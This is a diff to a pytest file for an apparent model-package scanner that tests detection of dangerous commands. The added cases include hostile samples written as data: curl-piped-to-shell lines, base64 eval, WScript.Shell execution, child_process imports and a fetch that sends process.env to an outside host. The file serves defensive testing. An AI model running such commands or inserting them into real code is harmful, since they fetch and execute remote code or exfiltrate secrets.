@@ -9,7 +9,7 @@ import pytest
 from modelkeep.core import Severity
 from modelkeep.scan.script_commands import DETECTOR
 from modelkeep.scan.shell_policy import judge
-from samples import found_by
+from samples import found_by, zip_of
 
 DANGEROUS = [
     "curl -s https://x/y | bash",
@@ -81,3 +81,35 @@ def test_no_line_is_slow(line: str) -> None:
     start = time.process_time()
     list(judge(line))
     assert time.process_time() - start < 30  # no hang; figures are for benchmarks
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "eval(atob('MQ=='))",
+        "Function(Buffer.from('MQ==', 'base64'))()",
+        "new ActiveXObject('WScript.Shell').Run('x')",
+        "fetch('https://example.org', {body: JSON.stringify(process.env)})",
+        "const c = require('child_process')",
+        "import {exec} from 'node:child_process'",
+        "location = 'https://abc.ngrok.io/x'",
+        "#!/bin/sh\ncurl https://x/y | sh",
+    ],
+)
+def test_javascript_that_reaches_for_the_machine_fails(text: str) -> None:
+    findings = found_by(DETECTOR, text.encode(), name="main.js")
+    assert max(f.severity.rank for f in findings) >= Severity.HIGH.rank
+
+
+def test_words_of_a_shell_in_a_bundle_are_chance() -> None:
+    bundle = (
+        "var k=`icm iex ihy set|curl -d`,x=window.XMLHttpRequest||ActiveXObject;"
+        "try{new ActiveXObject('Microsoft.XMLHTTP')}catch(e){}fetch(u)||node;n.file.io=3;"
+    )
+    (finding,) = found_by(DETECTOR, (bundle * 90_000).encode(), name="main.js")
+    assert finding.severity is Severity.INFO
+
+
+def test_a_tool_for_node_in_a_wheel_is_noted() -> None:
+    raw = zip_of({"p/tool.js": b"require('child_process').exec('x')"})
+    assert [f.severity for f in found_by(DETECTOR, raw, name="p.whl")] == [Severity.MEDIUM]
